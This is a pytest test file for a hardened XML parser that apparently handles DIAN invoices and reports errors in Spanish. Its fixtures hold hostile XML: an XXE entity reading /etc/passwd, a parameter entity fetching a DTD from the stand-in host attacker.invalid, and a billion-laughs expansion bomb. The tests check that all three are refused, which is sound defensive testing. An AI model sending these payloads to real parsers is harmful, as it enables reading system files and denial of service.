"""The hardened XML entry point refuses hostile input quickly and with a readable reason (DESIGN.md section 5)."""

from __future__ import annotations

import time

import pytest
from lxml import etree

from dian.errors import ParseError
from dian.xmlsafe import parse_xml

XXE_EXTERNAL = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<r>&x;</r>"""

XXE_PARAMETER = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.invalid/evil.dtd"> %p;]>
<r/>"""

BILLION_LAUGHS = (
    b'<?xml version="1.0"?>\n<!DOCTYPE lolz [\n<!ENTITY lol "lol">\n'
    + b"".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n'.encode() for i in range(1, 10)
    )
    + b"]>\n<lolz>&lol9;</lolz>"
)


def _refused(data: bytes, **limits: int) -> ParseError:
    started = time.perf_counter()
    with pytest.raises(ParseError) as caught:
        parse_xml(data, **limits)
    assert time.perf_counter() - started < 0.5, "refusal must be quick"
    return caught.value


@pytest.mark.parametrize("data", [XXE_EXTERNAL, XXE_PARAMETER, BILLION_LAUGHS], ids=["xxe", "parameter", "laughs"])
def test_doctype_is_refused_before_any_expansion(data: bytes) -> None:
    error = _refused(data)
    assert "DOCTYPE" in str(error)
    assert error.where == "línea 2"


def test_doctype_after_comments_and_processing_instructions_is_refused() -> None:
    error = _refused(b'<?xml version="1.0"?><?pi ?>\n<!-- <r> -->\n<!doctype r><r/>')
    assert "DOCTYPE" in str(error) and error.where == "línea 3"


def test_doctype_text_inside_content_is_only_text() -> None:
    # Inside the root, "<!DOCTYPE" can only be CDATA or comment text: it declares nothing. An embedded document
    # carrying one is refused when it is itself parsed.
    root = parse_xml(b"<r><![CDATA[<!DOCTYPE x [<!ENTITY e 'x'>]><x>&e;</x>]]><!-- <!DOCTYPE --></r>")
    assert root.text.startswith("<!DOCTYPE")


def test_too_deep_tree() -> None:
    depth = 100
    error = _refused(b"<a>" * depth + b"</a>" * depth, max_depth=64)
    assert "anida más de 64" in str(error)


def test_depth_limit_is_exact() -> None:
    assert parse_xml(b"<a>" * 5 + b"</a>" * 5, max_depth=5) is not None
    _refused(b"<a>" * 6 + b"</a>" * 6, max_depth=5)


def test_oversized_input() -> None:
    error = _refused(b"<r>" + b"x" * 2000 + b"</r>", max_bytes=1000)
    assert "demasiado grande" in str(error) and "1000" in str(error)


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"%PDF-1.7 not xml", "no es XML"),
        (b"", "entrada vacía"),
        (b"   \n", "entrada vacía"),
        (b"<a><b></a>", "XML mal formado"),
        (b"<a>&undefined;</a>", "XML mal formado"),
        ("<a/>".encode("utf-16"), "UTF-16"),
        (b'<?xml version="1.0" encoding="UTF-7"?><a/>', "UTF-7"),
    ],
    ids=["pdf", "empty", "blank", "mismatch", "entity", "utf16", "utf7"],
)
def test_non_xml_gives_a_readable_reason(data: bytes, reason: str) -> None:
    assert reason in str(_refused(data))


def test_malformed_input_names_line_and_column() -> None:
    error = _refused(b"<a>\n<b>\n</a>")
    assert error.where is not None and error.where.startswith("línea 3")
    # libxml2's own (English) position suffix is not repeated in the message.
    assert str(error).count("línea 3") == 1 and "line 3" not in str(error)


def test_non_bytes_input_is_refused() -> None:
    with pytest.raises(ParseError, match="bytes"):
        parse_xml("<a/>")  # type: ignore[arg-type]


def test_whitespace_comments_and_processing_instructions_are_kept() -> None:
    data = b'<?xml version="1.0" encoding="UTF-8"?>\n<r>\n  <!-- c --><?pi x?>\n  <b  a="1"/>\n</r>'
    root = parse_xml(data)
    assert etree.tostring(root) == b'<r>\n  <!-- c --><?pi x?>\n  <b a="1"/>\n</r>'
    assert root.getroottree().docinfo.encoding == "UTF-8"


def test_utf8_bom_and_latin1_are_accepted() -> None:
    assert parse_xml(b"\xef\xbb\xbf<r>\xc3\xb1</r>").text == "ñ"
    assert parse_xml(b'<?xml version="1.0" encoding="ISO-8859-1"?><r>\xf1</r>').text == "ñ"


def test_relative_namespace_uri_parses() -> None:
    # One real invoice declares xmlns:none="none" (dian-facts.md 5): lxml parses it, only C14N refuses it.
    root = parse_xml(b'<r xmlns:none="none"><none:x/></r>')
    assert root[0].tag == "{none}x"


def test_real_samples_parse(samples_dir) -> None:
    for path in sorted(samples_dir.glob("*.xml")):
        assert parse_xml(path.read_bytes()) is not None, path.name


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (b"<a>\n<b></a>", "XML mal formado: la etiqueta <b> (abierta en la línea 2) se cierra como </a>"),
        (b"<Invoice><cbc:ID>1", "XML mal formado: el prefijo «cbc» de <cbc:ID> no está declarado (falta xmlns:cbc)"),
        (
            b"<a><b>",
            "XML mal formado: el documento termina antes de cerrar <b> (abierta en la línea 1): parece cortado",
        ),
        (b"<a/><b/>", "XML mal formado: hay contenido después del final del documento"),
        (b"<a>Pan & Cia</a>", "XML mal formado: hay un «&» sin escapar (en XML se escribe &amp;)"),
        (b"<a>\xff\xfe</a>", "XML mal formado: hay bytes que no son UTF-8 válido"),
        (b"<a>\x00</a>", "XML mal formado: hay un carácter que XML no permite (0x0)"),
        (b"<a><![CDATA[x</a>", "XML mal formado: una sección CDATA no se cierra"),
    ],
    ids=["mismatch", "prefix", "cut", "extra", "ampersand", "bytes", "nul", "cdata"],
)
def test_common_syntax_errors_are_said_in_spanish(data: bytes, words: str) -> None:
    error = _refused(data)
    assert str(error).startswith(words + " (en línea "), str(error)


def test_an_uncommon_syntax_error_quotes_libxml2_on_one_line() -> None:
    # An XML declaration after the start: not in the glossary, so libxml2's own words, named as such.
    message = str(_refused(b"<a/>\n<?xml version='1.0'?>"))
    assert message.startswith("XML mal formado: según libxml2: ") and "\n" not in message
